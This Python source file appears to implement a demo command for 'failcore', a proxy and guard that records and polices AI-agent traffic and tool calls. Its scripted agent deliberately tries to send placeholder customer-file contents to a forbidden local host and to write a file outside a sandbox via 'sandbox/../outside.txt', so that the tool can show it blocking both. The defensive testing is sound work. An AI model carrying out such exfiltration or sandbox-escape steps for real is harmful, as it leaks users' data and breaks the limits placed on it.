"""`failcore sample`: the whole product offline in one command.

A local HTTPS stand-in plays the LLM provider, failcore's proxy runs in enforce mode with a tiny
policy, and a small agent speaking the OpenAI chat API over the standard library's HTTP client (so the
sample needs nothing beyond failcore's own dependencies) (1) streams an answer over SSE, (2) tries to
send a file to a host the policy does not allow, (3) hits a failing upstream. Then guarded tools run
under `failcore.run(strict=True)` (4) write a file inside the sandbox and (5) try one outside it, which
is refused before it is written, and (6) a tool declared to return JSON returns text (contract drift).
Last (7) the agent runs again with the stand-in stopped, answered offline from the recorded run
(replay). The runs' summaries and events are printed from the tape, the way a user would inspect a
real run.
"""

from __future__ import annotations

import asyncio
import json
import shutil
import ssl
import sys
import tempfile
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

from failcore.demo.server import StandIn
from failcore.paths import failcore_home
from failcore.runner import EmbeddedProxy, ProxySettings

SAMPLE_POLICY = Path(__file__).parent / "data" / "sample_policy.yaml"
# The guarded tools' policy: writes only under the sandbox, `lookup_order` declared to return JSON.
TOOLS_POLICY = """\
# failcore sample: the guarded tools' policy (written for this run; SANDBOX is its temporary directory)
version: 1
description: failcore sample — tools write only inside the sandbox; lookup_order returns JSON
fs:
  write: [{sandbox}]
tools:
  lookup_order:
    output: json
"""


def sample_tape_dir() -> Path:
    return failcore_home() / "sample-tape"


def run_agent(proxy_url: str, ca_cert: Path, llm_base: str, exfil_url: str, broken_url: str) -> list[str]:
    """A minimal agent: one streamed LLM call, one exfiltration attempt, one call to a broken service."""
    trust = ssl.create_default_context(cafile=str(ca_cert))
    opener = urllib.request.build_opener(
        urllib.request.ProxyHandler({"http": proxy_url, "https": proxy_url}),
        urllib.request.HTTPSHandler(context=trust),
    )
    log: list[str] = []
    chat = {
        "model": "gpt-4o-mini",
        "messages": [{"role": "user", "content": "Summarise the quarterly report"}],
        "stream": True,
        "stream_options": {"include_usage": True},
    }
    request = urllib.request.Request(
        f"{llm_base}/chat/completions",
        data=json.dumps(chat).encode(),
        headers={"Authorization": "Bearer sk-sample-not-a-real-key", "Content-Type": "application/json"},
    )
    words: list[str] = []
    with opener.open(request, timeout=30) as stream:
        for raw in stream:
            line = raw.decode().strip()
            if not line.startswith("data: ") or line == "data: [DONE]":
                continue
            for choice in json.loads(line[len("data: ") :]).get("choices", []):
                words.append(choice.get("delta", {}).get("content") or "")
    log.append(f"1. LLM answered over SSE: {''.join(words)!r}")
    try:
        opener.open(urllib.request.Request(exfil_url, data=b"customer_list.csv contents"), timeout=30)
        log.append("2. exfiltration attempt went through (it should not have!)")
    except urllib.error.URLError as e:
        log.append(f"2. exfiltration attempt refused by failcore: {e.reason}")
    try:
        with opener.open(broken_url, timeout=30) as resp:
            status = resp.status
    except urllib.error.HTTPError as e:
        status = e.code
    log.append(f"3. flaky upstream answered {status}")
    return log


def run_tools(tape: Path, workdir: Path) -> tuple[str, list[str]]:
    """Guarded tools in a strict run of their own on the sample tape: (run id, what happened)."""
    from failcore import Blocked, guard, run

    sandbox = workdir / "sandbox"
    sandbox.mkdir()
    policy = workdir / "tools_policy.yaml"
    policy.write_text(TOOLS_POLICY.format(sandbox=json.dumps(str(sandbox))))
    log: list[str] = []
    with run(policy=policy, strict=True, tape=tape) as ctx:

        @guard(name="write_file")
        def write_file(path: str, content: str) -> str:
            with open(path, "w") as f:
                f.write(content)
            return f"wrote {len(content)} bytes"

        @guard(name="lookup_order")
        def lookup_order(order_id: int) -> str:
            return f"Order {order_id} shipped on Monday"  # declared JSON: a contract drift

        inside = sandbox / "notes.txt"
        wrote = write_file(str(inside), "meeting on Friday")
        log.append(f"4. guarded write_file inside the sandbox: {wrote}")
        outside = sandbox / ".." / "outside.txt"
        try:
            write_file(str(outside), "hack")
            log.append("5. write outside the sandbox went through (it should not have!)")
        except Blocked as e:
            written = "" if not outside.exists() else " (but the file exists!)"
            log.append(
                f"5. guarded write_file('sandbox/../outside.txt') blocked before the file was opened"
                f" ({e.rule}){written}"
            )
        answer = lookup_order(42)
    # What the tape says about that call, not what we expect it to say.
    from failcore.runs import run_events

    (drift,) = [
        (ev.get("tool") or {}).get("contract")
        for ev in run_events(tape, ctx.run_id)
        if ev.get("kind") == "tool" and ev.get("action") == "lookup_order"
    ]
    if drift and drift.get("drift"):
        log.append(
            f"6. lookup_order declared {drift['expected']} output, returned {drift['got']} ({answer!r}):"
            " contract drift recorded"
        )
    else:
        log.append(f"6. lookup_order returned {answer!r}: no contract drift recorded (there should be!)")
    return ctx.run_id, log


async def replay_offline(tape: Path, run: str, urls: tuple[str, str, str, str]) -> tuple[str, list[str]]:
    """The agent again, the stand-in gone: the proxy answers from the recorded run (`--replay`)."""
    proxy = EmbeddedProxy(
        ProxySettings(
            listen_port=0,
            policy=str(SAMPLE_POLICY),
            tape=str(tape),
            sets=[f"failcore_replay={tape}:{run}", "failcore_replay_on_miss=fail"],
        )
    )
    await proxy.start()
    assert proxy.ca is not None
    try:
        log = await asyncio.to_thread(run_agent, proxy.url, proxy.ca.cert_path, *urls)
    finally:
        await proxy.stop()
    return proxy.session.run_id, [f"7.{line[:1]} replayed offline: {line[3:]}" for line in log]


async def run_sample(*, json_output: bool = False, tape: Path | None = None) -> int:
    from rich.console import Console

    from failcore.cli.proxy import replay_summary
    from failcore.runs import run_events, summarize_tape
    from failcore.views.tables import events_table, run_summary_table

    console = Console(highlight=False)

    tape = tape or sample_tape_dir()
    workdir = Path(tempfile.mkdtemp(prefix="failcore-sample-"))
    try:
        with StandIn(workdir=workdir) as upstream:
            urls = (
                f"https://localhost:{upstream.port}/v1",
                f"https://127.0.0.1:{upstream.port}/echo",
                f"https://localhost:{upstream.port}/status/503",
            )
            proxy = EmbeddedProxy(
                ProxySettings(
                    listen_port=0,
                    policy=str(SAMPLE_POLICY),
                    tape=str(tape),
                    sets=[f"ssl_verify_upstream_trusted_ca={upstream.ca_path}"],
                )
            )
            await proxy.start()
            assert proxy.ca is not None
            try:
                log = await asyncio.to_thread(run_agent, proxy.url, proxy.ca.cert_path, *urls)
            finally:
                await proxy.stop()
        run = proxy.session.run_id
        tools_run, tools_log = await asyncio.to_thread(run_tools, tape, workdir)
        # The stand-in has stopped: every answer now comes from the tape.
        replay_run, replay_log = await replay_offline(tape, run, urls)
    finally:
        shutil.rmtree(workdir, ignore_errors=True)
    summary: dict[str, Any] = summarize_tape(tape, run=run)[0].to_dict()
    summary["tape"] = str(tape)
    saved = replay_summary(tape, replay_run)
    extra = {
        "tools": {"run": tools_run, "log": tools_log},
        "replay": {"run": replay_run, "replay_of": run, "log": replay_log, "saved": saved},
    }
    if json_output:
        sys.stdout.write(json.dumps({"agent": log, "summary": summary, **extra}, indent=2) + "\n")
        return 0
    console.print("[bold]failcore sample[/]: an agent ran through failcore against a local LLM stand-in\n")
    for line in log:
        console.print(line, markup=False)
    console.print()
    shown = [ev for ev in run_events(tape, run) if ev.get("kind") in ("network", "internal_error", "dropped")]
    console.print(events_table(f"events of run {run}", shown, console.width))
    console.print(run_summary_table(summary))
    console.print()
    for line in tools_log:
        console.print(line, markup=False)
    kinds = ("tool", "fs", "internal_error")
    tool_events = [ev for ev in run_events(tape, tools_run) if ev.get("kind") in kinds]
    console.print(events_table(f"events of run {tools_run} (guarded tools)", tool_events, console.width))
    for line in replay_log:
        console.print(line, markup=False)
    console.print(
        f"replay run {replay_run}: the tape answered {saved['calls']} calls"
        f" ({saved['input_tokens'] or 0} input + {saved['output_tokens'] or 0} output tokens not spent)",
        markup=False,
    )
    console.print("\nWhat next:", markup=False)
    for cmd in (
        f"failcore show --tape {tape} {run}",
        f"failcore show --tape {tape} {run} --event {shown[0]['seq']}" if shown else "",
        f"failcore show --tape {tape} {tools_run}",
        f"failcore diff --tape {tape} {run} {replay_run}",
        f"failcore verify {tape}",
        "failcore run -- python your_agent.py",
        'mitmdump -s "$(failcore addon-path)"',
    ):
        if cmd:
            console.print(f"  {cmd}", markup=False)
    return 0
